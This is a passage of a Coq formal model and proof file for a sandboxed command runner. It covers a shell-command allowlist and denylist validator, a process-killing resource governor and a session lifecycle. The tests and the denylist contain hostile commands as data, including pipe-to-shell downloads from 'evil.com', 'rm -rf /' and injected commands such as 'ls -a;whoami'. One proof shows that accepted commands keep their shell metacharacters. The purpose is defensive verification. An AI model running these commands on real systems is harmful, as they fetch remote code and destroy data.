    (RSeq [lit "`"; RPlus (RCls (CNotChar 96)); lit "`"]);
  Pattern "chmod\s+777" false (RSeq [lit "chmod"; ws1; lit "777"]);
  Pattern "chmod\s+4755" false (RSeq [lit "chmod"; ws1; lit "4755"]);
  Pattern "wget\s+.*\|\s*sh" false
    (RSeq [lit "wget"; ws1; any0; lit "|"; ws0; lit "sh"]);
  Pattern "curl\s+.*\|\s*sh" false
    (RSeq [lit "curl"; ws1; any0; lit "|"; ws0; lit "sh"])
].

Definition validateCommand (command : jsstring) : CommandValidationResult :=
let trimmed := trim command in
match trimmed with
| [] => {| allowed := false; reason := Some (js "Empty command");
           sanitized_command := None |}
| _ :: _ =>
  (* Check for dangerous patterns *)
  match List.find (fun p => test p trimmed) DANGEROUS_PATTERNS with
  | Some p =>
      {| allowed := false;
         reason := Some (js "Dangerous pattern detected: " ++ pattern_to_string p);
         sanitized_command := None |}
  | None =>
      let base_command := List.hd [] (split_ws trimmed) in
      if includes ALLOWED_COMMANDS base_command then
        {| allowed := true; reason := None; sanitized_command := Some trimmed |}
      else if existsb (fun p => test p trimmed) ALLOWED_PATTERNS then
        {| allowed := true; reason := None; sanitized_command := Some trimmed |}
      else
        {| allowed := false;
           reason := Some (js "Command not in allowlist: " ++ base_command);
           sanitized_command := None |}
  end
end.

(** The code units of the class [[;&|`$(){}[\]\\]]. *)
Definition shell_meta : list N :=
  js ";&|`$(){}[]\".

Definition is_shell_meta (c : N) : bool := existsb (N.eqb c) shell_meta.

Definition sanitize_part (part : jsstring) : jsstring :=
if startsWith part (js "-")
then List.filter (fun c => negb (is_shell_meta c)) part
else part.

Definition sanitizeCommand (command : jsstring) : jsstring :=
let trimmed := trim command in
let parts := split_ws trimmed in
join (js " ") (List.map sanitize_part parts).

(** What every allowed template opens with: a word free of white space that
    is itself an allowed command, followed by white space. *)
Definition opens_with_allowed_command (p : pattern) : bool :=
anchored p &&
match command_heads (body p) with
| Some l =>
    forallb (fun h => forallb (fun x => negb (is_ws x)) h &&
                      includes ALLOWED_COMMANDS h) l
| None => false
end.

(** *** The validator on the commands the repository's tests use *)

Example validate_npx :
  allowed (validateCommand (js "npx opencode run task.json")) = true.
Proof. vm_compute. reflexivity. Qed.

Example validate_rm_root :
  validateCommand (js "rm -rf /") =
  {| allowed := false;
     reason := Some (js "Dangerous pattern detected: /rm\s+-rf\s+\//");
     sanitized_command := None |}.
Proof. vm_compute. reflexivity. Qed.

Example validate_pipe_to_shell :
  allowed (validateCommand (js "curl http://evil.com/shell.sh | sh")) = false.
Proof. vm_compute. reflexivity. Qed.

Example validate_git_then_rm :
  List.hd [] (split_ws (js "git log; rm -rf /")) = js "git" /\
  includes ALLOWED_COMMANDS (js "git") = true /\
  allowed (validateCommand (js "git log; rm -rf /")) = false.
Proof. vm_compute. repeat split; reflexivity. Qed.

Example dangerous_samples :
  let dangerous s := existsb (fun p => test p (js s)) DANGEROUS_PATTERNS in
  dangerous "rm  -rf   /tmp/x" = true /\
  dangerous "rm -r -f /" = false /\
  dangerous "cat /etc/passwd | sh" = false /\
  dangerous "cat /tmp/ |sh" = true /\
  dangerous "ls >/dev/null" = true /\
  dangerous "echo $(id)" = true /\
  dangerous "echo `id`" = true /\
  dangerous "echo ``" = false /\
  dangerous "chmod  777 f" = true /\
  dangerous "chmod 755 f" = false /\
  dangerous "wget http://h/x -O- | sh" = true.
Proof. vm_compute. repeat split; reflexivity. Qed.

Example template_samples :
  let template s := existsb (fun p => test p (js s)) ALLOWED_PATTERNS in
  template "python3 tools/run.py --fast" = true /\
  template "python -c 1" = false /\
  template "git checkout  -b topic" = true /\
  template "git rebase" = false /\
  template "sleep 10" = true /\
  template "sleep ten" = false /\
  template " npx tsc" = false /\
  template "npx" = false.
Proof. vm_compute. repeat split; reflexivity. Qed.

Example sanitize_flag :
  sanitizeCommand (js "ls -a;whoami") = js "ls -awhoami".
Proof. vm_compute. reflexivity. Qed.

(** *** Facts about the two pattern tables *)

(** No dangerous pattern is anchored, matches the empty word, or has a match
    that begins or ends with white space. *)
Lemma dangerous_trim_stable : forallb trim_stable DANGEROUS_PATTERNS = true.
Proof. vm_compute. reflexivity. Qed.

Lemma allowed_patterns_open_with_command :
  forallb opens_with_allowed_command ALLOWED_PATTERNS = true.
Proof. vm_compute. reflexivity. Qed.

Lemma dangerous_test_trim cmd :
  existsb (fun p => test p (trim cmd)) DANGEROUS_PATTERNS =
  existsb (fun p => test p cmd) DANGEROUS_PATTERNS.
Proof.
pose proof dangerous_trim_stable as H.
induction DANGEROUS_PATTERNS as [|p l IH]; [reflexivity|].
simpl in *. apply andb_true_iff in H as [Hp Hl].
rewrite (test_trim p cmd Hp), (IH Hl). reflexivity.
Qed.

Lemma find_existsb {A} (f : A -> bool) (l : list A) :
  List.find f l = None <-> existsb f l = false.
Proof.
induction l as [|x l IH]; simpl; [tauto|].
destruct (f x); simpl; [split; discriminate | assumption].
Qed.

(** A command that matches an allowed template already has an allowed base
    command: the template pass never changes the verdict of the base-command
    pass. *)
Lemma allowed_pattern_implies_command t :
  existsb (fun p => test p t) ALLOWED_PATTERNS = true ->
  includes ALLOWED_COMMANDS (List.hd [] (split_ws t)) = true.
Proof.
intros H. apply existsb_exists in H as (p & Hin & Ht).
pose proof allowed_patterns_open_with_command as Hall.
rewrite forallb_forall in Hall. specialize (Hall p Hin).
unfold opens_with_allowed_command in Hall.
apply andb_true_iff in Hall as [Ha Hl].
unfold test in Ht. rewrite Ha in Ht.
apply prefix_match_spec in Ht as (w & b & -> & M).
destruct (command_heads (body p)) as [l|] eqn:E; [|discriminate].
destruct (command_heads_sound _ _ _ E M) as (h & c & w' & -> & Hc & Hh).
rewrite forallb_forall in Hl. specialize (Hl h Hh).
apply andb_true_iff in Hl as [Hnw Hinc].
rewrite split_ws_hd, <- app_assoc. simpl.
rewrite take_token_app; assumption.
Qed.

(** *** Claims about [validateCommand] *)

(** C2. A command that matches at least one of the dangerous patterns is
    rejected ([allowed = false], no sanitized command), whatever its first
    token is; in particular when that token is an allowed command. *)
Theorem validateCommand_rejects_dangerous (cmd : jsstring) :
  existsb (fun p => test p cmd) DANGEROUS_PATTERNS = true ->
  allowed (validateCommand cmd) = false /\
  sanitized_command (validateCommand cmd) = None.
Proof.
intros H. rewrite <- dangerous_test_trim in H. unfold validateCommand.
destruct (trim cmd) as [|c t] eqn:E; [split; reflexivity|].
destruct (List.find _ DANGEROUS_PATTERNS) eqn:F; [split; reflexivity|].
apply find_existsb in F. congruence.
Qed.

(** The denylist wins over the allowlist on the command of the spec. *)
Lemma validateCommand_rejects_dangerous_witness :
  first_token (js "git log; rm -rf /") = Some (js "git") /\
  includes ALLOWED_COMMANDS (js "git") = true /\
  allowed (validateCommand (js "git log; rm -rf /")) = false.
Proof.
split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
apply (validateCommand_rejects_dangerous (js "git log; rm -rf /")).
vm_compute. reflexivity.
Defined.

(** C7. A non-empty command with a first white-space-delimited token [b]
    that matches no dangerous pattern, whose [b] is not an allowed command
    and which matches no allowed template is rejected, and the reason is
    "Command not in allowlist: " followed by [b]. *)
Theorem validateCommand_rejects_unlisted (cmd b : jsstring) :
  cmd <> [] ->
  first_token cmd = Some b ->
  existsb (fun p => test p cmd) DANGEROUS_PATTERNS = false ->
  includes ALLOWED_COMMANDS b = false ->
  existsb (fun p => test p cmd) ALLOWED_PATTERNS = false ->
  validateCommand cmd =
  {| allowed := false;
     reason := Some (js "Command not in allowlist: " ++ b);
     sanitized_command := None |}.
Proof.
intros _ Hb Hd Ha _.
apply first_token_trim in Hb as [Hne Hb].
rewrite <- dangerous_test_trim in Hd. apply find_existsb in Hd.
unfold validateCommand.
destruct (trim cmd) as [|c t] eqn:E; [congruence|].
rewrite Hd, Hb, Ha.
destruct (existsb _ ALLOWED_PATTERNS) eqn:P; [|reflexivity].
apply allowed_pattern_implies_command in P. congruence.
Qed.

Lemma validateCommand_rejects_unlisted_witness :
  validateCommand (js "  nmap -sV 10.0.0.1 ") =
  {| allowed := false;
     reason := Some (js "Command not in allowlist: nmap");
     sanitized_command := None |}.
Proof.
apply (validateCommand_rejects_unlisted (js "  nmap -sV 10.0.0.1 ") (js "nmap"));
  solve [discriminate | vm_compute; reflexivity].
Defined.

(** C9. Whenever the command is accepted, [sanitized_command] is the trimmed
    input itself; [sanitizeCommand] has no part in it. *)
Theorem validateCommand_sanitized_is_trimmed (cmd : jsstring) :
  allowed (validateCommand cmd) = true ->
  sanitized_command (validateCommand cmd) = Some (trim cmd) /\
  reason (validateCommand cmd) = None.
Proof.
unfold validateCommand.
destruct (trim cmd) as [|c t]; [discriminate|].
destruct (List.find _ DANGEROUS_PATTERNS); [discriminate|].
destruct (includes _ _); [split; reflexivity|].
destruct (existsb _ ALLOWED_PATTERNS); [split; reflexivity | discriminate].
Qed.

(** An accepted command keeps the shell metacharacters that
    [sanitizeCommand] would have stripped from its flag. *)
Lemma validateCommand_sanitized_is_trimmed_witness :
  sanitized_command (validateCommand (js " ls -a;whoami ")) =
    Some (js "ls -a;whoami") /\
  sanitizeCommand (js " ls -a;whoami ") = js "ls -awhoami".
Proof.
split; [|vm_compute; reflexivity].
apply (validateCommand_sanitized_is_trimmed (js " ls -a;whoami ")).
vm_compute. reflexivity.
Defined.

End Allowlist.

(* ===================================================================== *)
(** ** The ResourceGovernor class *)
(* ===================================================================== *)

Module Governor.
Import JS.

Section WithNumbers.

(** The claims about the governor do not depend on how JavaScript numbers
    are represented: the type of numbers and their conversion to a string
    (as a template literal performs it) are parameters. *)
Variable number : Type.
Variable number_to_string : number -> jsstring.

Record ResourceLimits : Type := {
  cpu : number;
  memory_mb : number;
  timeout_ms : number;
  max_output_bytes : number
}.

Record GovernorState : Type := {
  is_governed : bool;
  limits : ResourceLimits;
  start_time : number;
  memory_samples : list number;
  cpu_samples : list number;
  output_bytes : number;
  killed : bool;
  kill_reason : option jsstring
}.

(** The private fields of a ResourceGovernor object.  A process group id is
    an integer or null; an AbortController is represented by its [aborted]
    flag; an interval handle carries no information of its own. *)
Record ResourceGovernor : Type := {
  state : GovernorState;
  gov_limits : ResourceLimits;
  process_group_id : option Z;
  abort_controller : option bool;
  monitoring_interval : option unit
}.

(** What a method does outside the object (log lines are left out). *)
Inductive effect : Type :=
| ClearInterval
| SetInterval
| KillGroup (pgid : Z)          (* execSync(`kill -9 -${pgid}`), errors swallowed *)
| AbortSignalled.

Definition with_state (g : ResourceGovernor) (st : GovernorState) : ResourceGovernor :=
{| state := st; gov_limits := gov_limits g;
   process_group_id := process_group_id g;
   abort_controller := abort_controller g;
   monitoring_interval := monitoring_interval g |}.

(** [new ResourceGovernor(limits)], the defaults already filled in, with
    [zero] the number 0. *)
Definition new_governor (zero : number) (l : ResourceLimits) : ResourceGovernor :=
{| state := {| is_governed := false; limits := l; start_time := zero;
               memory_samples := []; cpu_samples := []; output_bytes := zero;
               killed := false; kill_reason := None |};
   gov_limits := l;
   process_group_id := None;
   abort_controller := None;
   monitoring_interval := None |}.

Definition stopMonitoring (g : ResourceGovernor) : ResourceGovernor * list effect :=
match monitoring_interval g with
| Some _ =>
    ({| state := state g; gov_limits := gov_limits g;
        process_group_id := process_group_id g;
        abort_controller := abort_controller g;
        monitoring_interval := None |}, [ClearInterval])
| None => (g, [])
end.

(** [startGovernance(process_group_id)] at the time [now], without the
    optional abort signal of the caller. *)
Definition startGovernance (pgid : Z) (now : number) (g : ResourceGovernor)
  : ResourceGovernor * list effect :=
let st := state g in
({| state := {| is_governed := true; limits := limits st; start_time := now;
                memory_samples := memory_samples st;
                cpu_samples := cpu_samples st;
                output_bytes := output_bytes st;
                killed := false; kill_reason := kill_reason st |};
    gov_limits := gov_limits g;
    process_group_id := Some pgid;
    abort_controller := Some false;
    monitoring_interval := Some tt |}, [SetInterval]).

(** The template literal [`${reason}: ${value ?? "unknown"}`]. *)
Definition kill_reason_text (reason : jsstring) (value : option number) : jsstring :=
reason ++ js ": " ++
match value with
| Some v => number_to_string v
| None => js "unknown"
end.

(** [if (this.process_group_id)]: null and 0 are falsy. *)
Definition pgid_truthy (p : option Z) : bool :=
match p with
| Some n => negb (n =? 0)%Z
| None => false
end.

Definition killProcess (reason : jsstring) (value : option number)
  (g : ResourceGovernor) : ResourceGovernor * list effect :=
if killed (state g) then (g, [])
else
  let st := state g in
  let g1 := with_state g
    {| is_governed := is_governed st; limits := limits st;
       start_time := start_time st; memory_samples := memory_samples st;
       cpu_samples := cpu_samples st; output_bytes := output_bytes st;
       killed := true;
       kill_reason := Some (kill_reason_text reason value) |} in
  let '(g2, e_stop) := stopMonitoring g1 in
  let e_kill :=
    if pgid_truthy (process_group_id g2)
    then match process_group_id g2 with Some n => [KillGroup n] | None => [] end
    else [] in
  let '(g3, e_abort) :=
    match abort_controller g2 with
    | Some _ =>
        ({| state := state g2; gov_limits := gov_limits g2;
            process_group_id := process_group_id g2;
            abort_controller := Some true;
            monitoring_interval := monitoring_interval g2 |}, [AbortSignalled])
    | None => (g2, [])
    end in
  (g3, e_stop ++ e_kill ++ e_abort).

Definition stop (g : ResourceGovernor) : ResourceGovernor * list effect :=
let '(g1, e) := stopMonitoring g in
let st := state g1 in
(with_state g1
   {| is_governed := false; limits := limits st;
      start_time := start_time st; memory_samples := memory_samples st;
      cpu_samples := cpu_samples st; output_bytes := output_bytes st;
      killed := false; kill_reason := kill_reason st |}, e).

(** *** Lemmas *)

Lemma stopMonitoring_state g : state (fst (stopMonitoring g)) = state g.
Proof. unfold stopMonitoring. destruct (monitoring_interval g); reflexivity. Qed.

Lemma killProcess_state reason value g :
  killed (state g) = false ->
  state (fst (killProcess reason value g)) =
  {| is_governed := is_governed (state g); limits := limits (state g);
     start_time := start_time (state g);
     memory_samples := memory_samples (state g);
     cpu_samples := cpu_samples (state g);
     output_bytes := output_bytes (state g);
     killed := true;
     kill_reason := Some (kill_reason_text reason value) |}.
Proof.
intros Hk. unfold killProcess, stopMonitoring, with_state. rewrite Hk. simpl.
destruct (monitoring_interval g); simpl;
  destruct (abort_controller g); reflexivity.
Qed.

Lemma killProcess_killed reason value g :
  killed (state (fst (killProcess reason value g))) = true.
Proof.
destruct (killed (state g)) eqn:Hk.
- unfold killProcess. rewrite Hk. assumption.
- rewrite killProcess_state by assumption. reflexivity.
Qed.

Lemma killProcess_noop reason value g :
  killed (state g) = true -> killProcess reason value g = (g, []).
Proof. intros Hk. unfold killProcess. rewrite Hk. reflexivity. Qed.

(** C4. After [killProcess(r1, v1)], a second [killProcess(r2, v2)] changes
    nothing and does nothing: the governor is the same object state, no
    signal is sent, [killed] is true, and when the first call was the one
    that killed, [kill_reason] is the text made of [r1] and [v1]. *)
Theorem killProcess_twice_keeps_first
  (g : ResourceGovernor) (r1 r2 : jsstring) (v1 v2 : option number) :
  let g1 := fst (killProcess r1 v1 g) in
  let g2 := fst (killProcess r2 v2 g1) in
  killProcess r2 v2 g1 = (g1, []) /\
  killed (state g2) = true /\
  kill_reason (state g2) = kill_reason (state g1) /\
  (killed (state g) = false ->
   kill_reason (state g2) = Some (kill_reason_text r1 v1)).
Proof.
intros g1 g2.
assert (Hnoop : killProcess r2 v2 g1 = (g1, []))
  by (apply killProcess_noop, killProcess_killed).
assert (Hg : g2 = g1) by (unfold g2; rewrite Hnoop; reflexivity).
rewrite Hg. repeat split.
- assumption.
- apply killProcess_killed.
- intros Hk. unfold g1. rewrite killProcess_state by assumption. reflexivity.
Qed.

(** C10. [stop()] clears [is_governed] and [killed] and leaves
    [kill_reason], [memory_samples] and [output_bytes] as they were; so a
    killed governor reports [killed = false] afterwards, and the next
    [killProcess] takes effect again: it sets [killed], overwrites
    [kill_reason] and is not the identity. *)
Theorem stop_resets_killed (g : ResourceGovernor) :
  let g' := fst (stop g) in
  is_governed (state g') = false /\
  killed (state g') = false /\
  kill_reason (state g') = kill_reason (state g) /\
  memory_samples (state g') = memory_samples (state g) /\
  output_bytes (state g') = output_bytes (state g) /\
  forall r v,
    fst (killProcess r v g') <> g' /\
    killed (state (fst (killProcess r v g'))) = true /\
    kill_reason (state (fst (killProcess r v g'))) = Some (kill_reason_text r v).
Proof.
intros g'.
assert (Hst : state g' =
  {| is_governed := false; limits := limits (state g);
     start_time := start_time (state g);
     memory_samples := memory_samples (state g);
     cpu_samples := cpu_samples (state g);
     output_bytes := output_bytes (state g);
     killed := false; kill_reason := kill_reason (state g) |}).
{ unfold g', stop, stopMonitoring.
  destruct (monitoring_interval g); reflexivity. }
assert (Hk : killed (state g') = false) by (rewrite Hst; reflexivity).
rewrite Hst. simpl. repeat split; try reflexivity.
- intros E. pose proof (killProcess_killed r v g') as K.
  rewrite E in K. congruence.
- apply killProcess_killed.
- rewrite killProcess_state by assumption. reflexivity.
Qed.

End WithNumbers.

Arguments state {number}.
Arguments killed {number}.
Arguments kill_reason {number}.
Arguments is_governed {number}.
Arguments killProcess {number}.
Arguments stop {number}.
Arguments new_governor {number}.
Arguments startGovernance {number}.

End Governor.

(** The governor of the integration test. *)
Module GovernorExamples.
Import JS Governor.

(** [killProcess("test_kill", 42)] after [startGovernance], numbers being
    integers printed in decimal. *)

Definition test_limits : ResourceLimits Z :=
{| cpu := 2%Z; memory_mb := 1024%Z; timeout_ms := 5000%Z;
   max_output_bytes := 1048576%Z |}.

Definition test_governor : ResourceGovernor Z :=
fst (startGovernance 4242%Z 1700000000000%Z (new_governor 0%Z test_limits)).

Example killProcess_test_kill :
  killProcess show_Z (js "test_kill") (Some 42%Z) test_governor =
  ({| state := {| is_governed := true; limits := test_limits;
                  start_time := 1700000000000%Z;
                  memory_samples := []; cpu_samples := [];
                  output_bytes := 0%Z; killed := true;
                  kill_reason := Some (js "test_kill: 42") |};
      gov_limits := test_limits;
      process_group_id := Some 4242%Z;
      abort_controller := Some true;
      monitoring_interval := None |},
   [ClearInterval; KillGroup 4242%Z; AbortSignalled]).
Proof. vm_compute. reflexivity. Qed.

Lemma killProcess_twice_keeps_first_witness :
  let g1 := fst (killProcess show_Z (js "test_kill") (Some 42%Z) test_governor) in
  killProcess show_Z (js "timeout") (Some 5001%Z) g1 = (g1, []) /\
  kill_reason (state (fst (killProcess show_Z (js "timeout") (Some 5001%Z) g1)))
    = Some (js "test_kill: 42").
Proof.
pose proof (killProcess_twice_keeps_first Z show_Z test_governor
              (js "test_kill") (js "timeout") (Some 42%Z) (Some 5001%Z))
  as (H1 & _ & _ & H4).
split; [exact H1 | exact (H4 eq_refl)].
Defined.

End GovernorExamples.

(* ===================================================================== *)
(** ** src/session/lifecycle.ts *)
(* ===================================================================== *)

Module Lifecycle.
Import JS.

Inductive SessionState : Type :=
| INIT | PREPARING | EXECUTING | COLLECTING | DESTROYING | DESTROYED | ERROR.

#[global] Instance SessionState_eq_dec : EqDecision SessionState.
Proof. solve_decision. Defined.

(** A normalised absolute path: its segments, from the root. *)
Definition path : Type := list jsstring.

(** [path.join(p, name)] for a single segment [name]. *)
Definition path_join (p : path) (name : jsstring) : path := p ++ [name].

(** [path.dirname(p)]; the root is its own parent. *)
Definition path_dirname (p : path) : path := removelast p.

(** [q] is [p] or lies below it. *)
Fixpoint is_prefix (p q : path) : bool :=
match p, q with
| [], _ => true
| _ :: _, [] => false
| a :: p', b :: q' => jseqb a b && is_prefix p' q'
end.

(** The session object (types/session.ts).  An error is kept as the text
    [String(error)] gives. *)
Record SessionContext : Type := {
  session_id : jsstring;
  job_id : jsstring;
  state : SessionState;
  work_dir : path;
  output_dir : path;
  config_path : path;
  created_at : Z;
  started_at : option Z;
  finished_at : option Z;
  error : option jsstring
}.

Definition set_state (s : SessionContext) (to : SessionState) : SessionContext :=
{| session_id := session_id s; job_id := job_id s; state := to;
   work_dir := work_dir s; output_dir := output_dir s;
   config_path := config_path s; created_at := created_at s;
   started_at := started_at s; finished_at := finished_at s;
   error := error s |}.

Definition set_started_at (s : SessionContext) (t : Z) : SessionContext :=
{| session_id := session_id s; job_id := job_id s; state := state s;
   work_dir := work_dir s; output_dir := output_dir s;
   config_path := config_path s; created_at := created_at s;
   started_at := Some t; finished_at := finished_at s;
   error := error s |}.

Definition set_error (s : SessionContext) (e : jsstring) : SessionContext :=
{| session_id := session_id s; job_id := job_id s; state := state s;
   work_dir := work_dir s; output_dir := output_dir s;
   config_path := config_path s; created_at := created_at s;
   started_at := started_at s; finished_at := finished_at s;
   error := Some e |}.

Record SessionOptions : Type := {
  opt_base_dir : option path;
  work_dir_name : option jsstring;
  output_dir_name : option jsstring
}.

(** [onStateChange], as an observer of the session that either returns
    ([None]) or throws ([Some e]). *)
Record SessionLifecycleCallbacks : Type := {
  onStateChange :
    option (SessionContext -> SessionState -> SessionState -> option jsstring)
}.

Record WorkerJobInput : Type := {
  in_job_id : jsstring;
  command : jsstring;
  in_files : list (jsstring * jsstring)     (* Object.entries(files), in order *)
}.

(** A reference to a session object. *)
Definition loc : Type := nat.

Inductive node : Type :=
| Dir
| File (content : jsstring).

(** The immutable fields of a manager. *)
Record Manager : Type := {
  base_dir : path;
  sessions_dir : path;
  callbacks : SessionLifecycleCallbacks
}.

(** The manager methods [runSessionLifecycle] and its callers enter, in the
    order they are entered (a ghost record, to state orderings). *)
Inductive call : Type :=
| CallCreate (job : jsstring)
| CallPrepare (s : loc)
| CallExecute (s : loc)
| CallCollect (s : loc)
| CallDestroy (s : loc)
| CallDestroySafe (s : loc).

(** What the methods read and write: the registry of the manager, the
    session objects (shared between the registry and the callers, hence a
    store of objects addressed by reference), the file system, and how many
    identifiers and clock readings were drawn. *)
Record State : Type := {
  active_sessions : gmap jsstring loc;
  heap : gmap loc SessionContext;
  next_loc : loc;
  files : gmap path node;
  uuids_drawn : nat;
  clock_reads : nat;
  trace : list call
}.

Inductive rm_outcome : Type :=
| RmDone
| RmThrows (e : jsstring) (removed : path -> bool).
    (* fails after having removed the paths of the subtree in [removed] *)

Inductive exec_outcome : Type :=
| ExecReturns (stdout : jsstring)
| ExecThrows (status : option Z) (stdout stderr : option jsstring) (message : jsstring).

(** The behaviour of the world around the process, fixed for a run. *)
Record Env : Type := {
  uuidv4 : nat -> jsstring;
  Date_now : nat -> Z;
  mkdir_error : path -> option jsstring;
  writeFile_error : path -> option jsstring;
  rm_result : path -> rm_outcome;
  readdir_error : path -> option jsstring;
  execSync : jsstring -> path -> gmap path node -> exec_outcome * gmap path node;
  import_error : option jsstring
}.

(** *** A monad for code that reads and writes [State] and may throw *)

Inductive outcome (A : Type) : Type :=
| Ok (a : A)
| Throw (e : jsstring).
Arguments Ok {A} a.
Arguments Throw {A} e.

Definition M (A : Type) : Type := State -> outcome A * State.

Definition ret {A} (a : A) : M A := fun st => (Ok a, st).
Definition throw {A} (e : jsstring) : M A := fun st => (Throw e, st).
Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
fun st =>
  match m st with
  | (Ok a, st1) => k a st1
  | (Throw e, st1) => (Throw e, st1)
  end.

Notation "'let*' x := m 'in' k" := (bind m (fun x => k))
  (at level 10, x name, m at level 100, k at level 200).
Notation "m >> k" := (bind m (fun _ => k))
  (at level 200, k at level 200, right associativity).

(** [try { body } catch (e) { handler }] *)
Definition try_catch {A} (body : M A) (handler : jsstring -> M A) : M A :=
fun st =>
  match body st with
  | (Ok a, st1) => (Ok a, st1)
  | (Throw e, st1) => handler e st1
  end.

(** [try { body } finally { fin }]: [fin] runs on both exits; the outcome
    is that of [body] unless [fin] throws. *)
Definition try_finally {A} (body : M A) (fin : M unit) : M A :=
fun st =>
  let '(r, st1) := body st in
  match fin st1 with
  | (Ok _, st2) => (r, st2)
  | (Throw e, st2) => (Throw e, st2)
  end.

Definition try_catch_finally {A} (body : M A) (handler : jsstring -> M A)
  (fin : M unit) : M A :=
try_finally (try_catch body handler) fin.

Fixpoint for_each {A} (l : list A) (f : A -> M unit) : M unit :=
match l with
| [] => ret tt
| x :: rest => f x >> for_each rest f
end.

(** *** State accessors *)

Definition with_active_sessions (st : State) (a : gmap jsstring loc) : State :=
{| active_sessions := a; heap := heap st; next_loc := next_loc st;
   files := files st; uuids_drawn := uuids_drawn st;
   clock_reads := clock_reads st; trace := trace st |}.

Definition with_heap (st : State) (h : gmap loc SessionContext) : State :=
{| active_sessions := active_sessions st; heap := h; next_loc := next_loc st;
   files := files st; uuids_drawn := uuids_drawn st;
   clock_reads := clock_reads st; trace := trace st |}.

Definition with_files (st : State) (f : gmap path node) : State :=
{| active_sessions := active_sessions st; heap := heap st;
   next_loc := next_loc st; files := f; uuids_drawn := uuids_drawn st;
   clock_reads := clock_reads st; trace := trace st |}.

Definition with_trace (st : State) (t : list call) : State :=
{| active_sessions := active_sessions st; heap := heap st;
   next_loc := next_loc st; files := files st; uuids_drawn := uuids_drawn st;
   clock_reads := clock_reads st; trace := t |}.

Definition entered (c : call) : M unit :=
fun st => (Ok tt, with_trace st (trace st ++ [c])).

(** Reading a field of [session]; a reference to no object has no fields. *)
Definition read (s : loc) : M SessionContext :=
fun st =>
  match heap st !! s with
  | Some o => (Ok o, st)
  | None => (Throw (js "TypeError: Cannot read properties of undefined"), st)
  end.

(** Assigning the fields of [session]. *)
Definition update (s : loc) (f : SessionContext -> SessionContext) : M unit :=
fun st =>
  match heap st !! s with
  | Some o => (Ok tt, with_heap st (<[s := f o]> (heap st)))
  | None => (Throw (js "TypeError: Cannot set properties of undefined"), st)
  end.

Definition alloc (o : SessionContext) : M loc :=
fun st =>
  (Ok (next_loc st),
   {| active_sessions := active_sessions st;
      heap := <[next_loc st := o]> (heap st);
      next_loc := S (next_loc st);
      files := files st; uuids_drawn := uuids_drawn st;
      clock_reads := clock_reads st; trace := trace st |}).

(** *** The environment: identifiers, clock, file system, child process *)

Section WithEnv.

Variable env : Env.

Definition draw_uuid : M jsstring :=
fun st =>
  (Ok (uuidv4 env (uuids_drawn st)),
   {| active_sessions := active_sessions st; heap := heap st;
      next_loc := next_loc st; files := files st;
      uuids_drawn := S (uuids_drawn st);
      clock_reads := clock_reads st; trace := trace st |}).

Definition now : M Z :=
fun st =>
  (Ok (Date_now env (clock_reads st)),
   {| active_sessions := active_sessions st; heap := heap st;
      next_loc := next_loc st; files := files st;
      uuids_drawn := uuids_drawn st;
      clock_reads := S (clock_reads st); trace := trace st |}).

Definition is_dir (f : gmap path node) (p : path) : bool :=
match p with
| [] => true
| _ =>
    match f !! p with
    | Some Dir => true
    | _ => false
    end
end.

Definition is_file (f : gmap path node) (p : path) : bool :=
match f !! p with
| Some (File _) => true
| _ => false
end.

(** The non-empty prefixes of a path, shortest first. *)
Fixpoint prefixes_from (base p : path) : list path :=
match p with
| [] => []
| a :: p' => (base ++ [a]) :: prefixes_from (base ++ [a]) p'
end.

Definition make_dir (f : gmap path node) (q : path) : gmap path node :=
match f !! q with
| Some _ => f
| None => <[q := Dir]> f
end.

(** [fs.mkdir(p, { recursive: true })] *)
Definition fs_mkdir (p : path) : M unit :=
fun st =>
  match mkdir_error env p with
  | Some e => (Throw e, st)
  | None =>
      if existsb (is_file (files st)) (prefixes_from [] p)
      then (Throw (js "Error: EEXIST: file already exists"), st)
      else (Ok tt, with_files st (fold_left make_dir (prefixes_from [] p) (files st)))
  end.

(** [fs.writeFile(p, content, "utf-8")] *)
Definition fs_writeFile (p : path) (content : jsstring) : M unit :=
fun st =>
  match writeFile_error env p with
  | Some e => (Throw e, st)
  | None =>
      if negb (is_dir (files st) (path_dirname p))
      then (Throw (js "Error: ENOENT: no such file or directory"), st)
      else if is_dir (files st) p
      then (Throw (js "Error: EISDIR: illegal operation on a directory"), st)
      else (Ok tt, with_files st (<[p := File content]> (files st)))
  end.

(** What is left of the file system when the subtree at [p] is removed, and
    when only the part [removed] of it is. *)
Definition remove_tree (p : path) (f : gmap path node) : gmap path node :=
filter (fun kv => is_prefix p kv.1 = false) f.

Definition remove_some (p : path) (removed : path -> bool) (f : gmap path node)
  : gmap path node :=
filter (fun kv => (is_prefix p kv.1 && removed kv.1) = false) f.

(** [fs.rm(p, { recursive: true, force: true })] *)
Definition fs_rm (p : path) : M unit :=
fun st =>
  match rm_result env p with
  | RmDone => (Ok tt, with_files st (remove_tree p (files st)))
  | RmThrows e removed => (Throw e, with_files st (remove_some p removed (files st)))
  end.

(** [fs.readdir(p, { recursive: true })]: the paths below [p], relative. *)
Definition fs_readdir (p : path) : M (list path) :=
fun st =>
  match readdir_error env p with
  | Some e => (Throw e, st)
  | None =>
      if is_dir (files st) p
      then (Ok (List.map (fun kv => drop (length p) kv.1)
                  (List.filter (fun kv => is_prefix p kv.1 &&
                                          negb (bool_decide (kv.1 = p)))
                     (map_to_list (files st)))), st)
      else (Throw (js "Error: ENOENT: no such file or directory"), st)
  end.

(** [await import("child_process")] *)
Definition import_child_process : M unit :=
match import_error env with
| Some e => throw e
| None => ret tt
end.

(** [execSync(command, { cwd, ... })]; the child may change the files. *)
Definition exec (command : jsstring) (cwd : path) : M exec_outcome :=
fun st =>
  let '(r, f) := execSync env command cwd (files st) in
  (Ok r, with_files st f).

(** *** SessionLifecycleManager *)

Definition DEFAULT_BASE_DIR : path := [js "opt"; js "opencode"].
Definition DEFAULT_SESSIONS_DIR : jsstring := js "sessions".
Definition DEFAULT_WORK_DIR : jsstring := js "work".
Definition DEFAULT_OUTPUT_DIR : jsstring := js "output".

(** [x || d] on an optional string: undefined and the empty string are falsy. *)
Definition or_default (x : option jsstring) (d : jsstring) : jsstring :=
match x with
| Some (c :: r) => c :: r
| _ => d
end.

(** [new SessionLifecycleManager(base_dir, callbacks)]; its registry is a
    fresh empty Map. *)
Definition new_manager (base : option path) (cb : SessionLifecycleCallbacks)
  : M Manager :=
fun st =>
  let b := match base with Some b => b | None => DEFAULT_BASE_DIR end in
